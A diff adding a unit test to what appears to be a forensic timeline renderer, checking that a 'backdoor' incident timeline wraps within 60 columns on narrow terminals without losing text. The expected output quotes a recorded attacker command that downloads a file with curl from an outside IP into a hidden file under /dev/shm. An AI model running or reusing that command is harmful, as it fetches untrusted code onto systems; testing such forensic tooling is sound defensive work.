@@ -396,6 +396,22 @@ describe('a folded timeline', () => {
   });
 });
 
+describe('a whole timeline', () => {
+  it('leaves room for what happened on a narrow terminal, and loses nothing', async () => {
+    const parts = new Set(['timeline']);
+    const written = await textOf(backdoor, { parts, foldsParts: false, width: 60 });
+    const lines = written.slice(written.indexOf('Timeline')).split('\n');
+    for (const line of lines) expect(line.length).toBeLessThanOrEqual(60);
+    expect(lines.slice(1, 3)).toEqual([
+      '  [1]  2026-03-02T04:11:01.000Z  -2.0 s  started',
+      '        curl -s http://203.0.113.77/x -o /dev/shm/.x (user',
+    ]);
+    const wide = await textOf(backdoor, { parts, foldsParts: false });
+    const blanks = (text: string): string => text.replace(/\s+/g, '');
+    expect(blanks(written)).toBe(blanks(wide));
+  });
+});
+
 describe('across hosts', () => {
   const host = (name: string, at: number, address: string): HostCase =>
     hostCase({
